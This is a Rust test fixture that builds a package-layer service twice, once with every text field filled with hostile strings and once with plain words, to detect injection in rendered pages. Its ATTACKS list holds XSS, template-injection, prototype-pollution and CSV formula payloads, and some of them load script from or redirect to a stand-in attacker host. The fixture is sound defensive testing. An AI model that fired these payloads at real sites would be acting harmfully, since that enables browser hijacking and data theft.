//! A service of which strangers wrote every text, each an attempt to become something else than text; and its twin, in which
//! the same texts are plain words. Whatever a page of the first has that the same page of the second has not, a text has made.

use klayers::domain::{ImportTest, Paper, PaperKind, Sha256};
use klayers::ledger::Event;
use klayers::render::PaperStore;
use serde_json::{Value, json};

use super::build::Build;
use super::common::World;
use super::served::ADDRESS;

/// What a browser would do if one of them came through: it calls `attacked`, opens a dialog, or asks for something elsewhere.
/// A product that no page has by chance is what a template or a formula would make.
pub const ATTACKS: [&str; 20] = [
    r#"<script>attacked(1);alert(1)</script>"#,
    r#""><img src=x onerror=attacked(2);alert(2)>"#,
    r#"' autofocus onfocus=attacked(3) x='"#,
    r#"" autofocus onfocus="attacked(4)" x=""#,
    r#"</script><script src="http://attack.example/5.js"></script>"#,
    "javascript:attacked(6);alert(6)//",
    r#"{"a":"\"}],"x":{"__proto__":{"polluted":1}}"#,
    "a\u{2028}attacked(8)\u{2029}//\u{feff}\u{200b}",
    "\u{202e}txet desrever\u{2066}\u{2067} ]]> --> <!--",
    "{{ 7919*7919 }} {% for a in b %}{{ __tera_context }}{% endfor %} {# x #} ${7919*7919} <%= 7919*7919 %>",
    "[click](javascript:attacked(11)) ![x](http://attack.example/11.png) <http://attack.example/11> `code` **bold** # h",
    r#"<svg onload=attacked(12)><a xlink:href="javascript:attacked(12)"><animate attributeName=href values=javascript:attacked(12) /></a></svg>"#,
    r#"</title></style></textarea></noscript><iframe srcdoc="<script>parent.attacked(13)</script>">"#,
    "data:text/html,<script>attacked(14)</script>",
    "=cmd|'/c calc'!A1\r\n\t\"x\",y|z\n\n| a | b |\n# h",
    "&lt;img src=x onerror=attacked(16)&gt; &#x3c;b&#x3e; &amp;quot; %3Cscript%3E \\u003cscript\\u003e",
    "nul\u{0}byte \u{1b}[31mred\u{7}\u{8} \u{85}\u{ad}",
    "<base href=http://attack.example/><meta http-equiv=refresh content=0;url=http://attack.example/><link rel=stylesheet href=//attack.example/x.css>",
    "<form action=http://attack.example/><button formaction=javascript:attacked(19)>x</button><math><mtext></mtext></math><dialog open>",
    "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467} \u{d0}\u{fffd}\u{10ffff} ﷽ Z\u{351}\u{36b}\u{343}a\u{334}\u{352}lg\u{308}o ",
];
/// In the place of each of them in the twin.
pub const PLAIN: &str = "plain words";
/// In characters; without a place to break a line at.
const LONG: usize = 10_000;
/// Names that are properties of everything in JavaScript, and one that is a path elsewhere.
const NAMES: [&str; 5] = ["constructor", "toString", "hasOwnProperty", "valueOf", "index.html"];
const ACTIVE: [(&str, &str); 2] = [("p3.13", "p313"), ("p3.13-arm64", "p313-arm64")];

/// Which of the two.
#[derive(Clone, Copy, PartialEq, Eq)]
pub enum Texts {
    /// Attempts.
    Hostile,
    /// Plain words.
    Plain,
}

impl Texts {
    /// The text of that number.
    fn of(self, number: usize) -> String {
        match self {
            Self::Plain => PLAIN.to_owned(),
            Self::Hostile => ATTACKS.get(number).map_or_else(|| "W".repeat(LONG), |attack| (*attack).to_owned()),
        }
    }

    /// The same in a field of CSV, which has no control characters here.
    fn without_controls(self, number: usize) -> String {
        self.of(number).chars().filter(|letter| !letter.is_control()).collect()
    }
}

/// One package for each of [`ATTACKS`] and the long one, all of whose texts it is.
pub fn world(texts: Texts) -> World {
    let world = World::new(&[]);
    world.write("pipeline/config/klayers.toml", &settings());
    let region = |code: &str, number| format!("{code},\"{}\",\n", texts.without_controls(number).replace('"', "\"\""));
    let regions: String = ["eu-west-1", "us-east-1", "us-west-2"].iter().zip([0, 1, 3]).map(|(code, number)| region(code, number)).collect();
    world.write("pipeline/config/regions.csv", &format!("Code,Name,State\n{regions}"));
    let names: Vec<String> = (0..=ATTACKS.len()).map(|number| format!("attack-{number}")).chain(NAMES.map(str::to_owned)).collect();
    let row = |(number, name): (usize, &String)| {
        let text = texts.without_controls(number % ATTACKS.len()).replace('"', "\"\"");
        format!("{name},\"{text}\",\"{text}\"\n")
    };
    let rows: String = names.iter().enumerate().map(row).collect();
    world.write("pipeline/config/packages.csv", &format!("Package_Name,License,Authors/Maintainers\n{rows}asked-for,MIT,\n"));
    for (runtime, infix) in ACTIVE {
        for (number, name) in names.iter().enumerate() {
            let lines: String = events(&world, texts, infix, name, number).iter().map(Event::canonical).collect();
            world.write(&format!("pipeline/ledger/{runtime}/{}/events.jsonl", super::build::normalized(name)), &lines);
        }
        world.write(&format!("pipeline/ledger/{runtime}/status.json"), &status(texts, &names).to_string());
    }
    world
}

fn settings() -> String {
    format!(
        "prefix = \"Klayers\"\nretention_days = 365\n\n[site]\naddress = \"{ADDRESS}\"\nrepository = \"https://github.com/example/layers\"\n\n\
         [runtime.\"3.13\"]\narchitectures = [\"x86_64\", \"arm64\"]\noperating_system = \"AL2023\"\nglibc = \"2.34\"\nstate = \"active\"\n\
         end_of_life = 2029-06-30\npackages = [\"packages.csv\"]\n"
    )
}

/// Yanked, deprecated, latest; imported or not.
fn events(world: &World, texts: Texts, infix: &'static str, name: &str, number: usize) -> Vec<Event> {
    let text = texts.of(number);
    let (lock, sbom) = (text.clone(), sbom(&text));
    let store = PaperStore::new(&world.path(".klayers/papers"));
    for (kind, paper) in [(PaperKind::Lock, &lock), (PaperKind::Sbom, &sbom)] {
        store.add(Paper { kind, sha256: Sha256::of(paper.as_bytes()) }, paper.as_bytes()).unwrap();
    }
    let build = |at: &str, numbers: u64, pin: &str| {
        let build = Build::new(infix, name, at, "1.0").version(&format!("{numbers}.0+attack")).license(&text).with(&[pin]);
        build.regions(&[("eu-west-1", numbers), ("us-east-1", numbers + 1), ("us-west-2", numbers)])
    };
    let withdrawn = build("2026-01-01", 1, "zz-one==1.0").papers(&lock, &sbom, ImportTest::NotTested { reason: text.clone() });
    let before = build("2026-02-01", 2, "zz-two==1.0+local.7919").imported(100);
    let latest = build("2026-10-01", 3, "zz-two==2!1.0rc1").papers(&lock, &sbom, ImportTest::NotTested { reason: text.clone() });
    vec![withdrawn.published(), withdrawn.yanked("2026-01-05", &text), before.published(), latest.published()]
}

fn status(texts: Texts, names: &[String]) -> Value {
    let entry = |number: usize| {
        let state = if number.is_multiple_of(2) { "failed" } else { "held-back" };
        json!({"state": state, "code": texts.of(number), "reason": texts.of(number), "since": "2026-11-01T00:00:00Z"})
    };
    let packages = names.iter().enumerate().map(|(number, name)| (super::build::normalized(name), entry(number)));
    let mut packages: serde_json::Map<String, Value> = packages.collect();
    packages.insert("asked-for".to_owned(), entry(1));
    json!({"packages": packages})
}

/// Whatever a reader of bills may look at, in the places where we write it and in some where others do.
fn sbom(text: &str) -> String {
    let component = json!({
        "type": text, "bom-ref": text, "group": text, "name": text, "version": text, "description": text, "scope": text, "purl": text, "cpe": text,
        "hashes": [{"alg": text, "content": text}],
        "licenses": [{"expression": text, "acknowledgement": text}, {"license": {"name": text, "id": text, "url": text}}],
        "externalReferences": [{"type": "website", "url": text, "comment": text}, {"type": "vcs", "url": text}, {"type": "documentation", "url": text}],
        "properties": [{"name": "klayers:wheel", "value": text}, {"name": "klayers:yanked", "value": text}, {"name": text, "value": text}],
    });
    let vulnerability = json!({
        "bom-ref": text, "id": text, "source": {"name": text, "url": text}, "references": [{"id": text, "source": {"name": text, "url": text}}],
        "ratings": [{"severity": text, "vector": text, "method": text, "score": 9.8}], "description": text, "detail": text, "recommendation": text,
        "advisories": [{"url": text, "title": text}], "affects": [{"ref": text, "versions": [{"version": text, "status": "affected"}]}],
    });
    let mut about = component.clone();
    about["bom-ref"] = "about".into();
    let document = json!({
        "$schema": text, "bomFormat": "CycloneDX", "specVersion": "1.6", "serialNumber": text, "version": 1,
        "metadata": {"timestamp": text, "tools": {"components": [component.clone()]}, "component": about},
        "components": [component], "dependencies": [{"ref": text, "dependsOn": [text]}], "vulnerabilities": [vulnerability],
    });
    document.to_string()
}
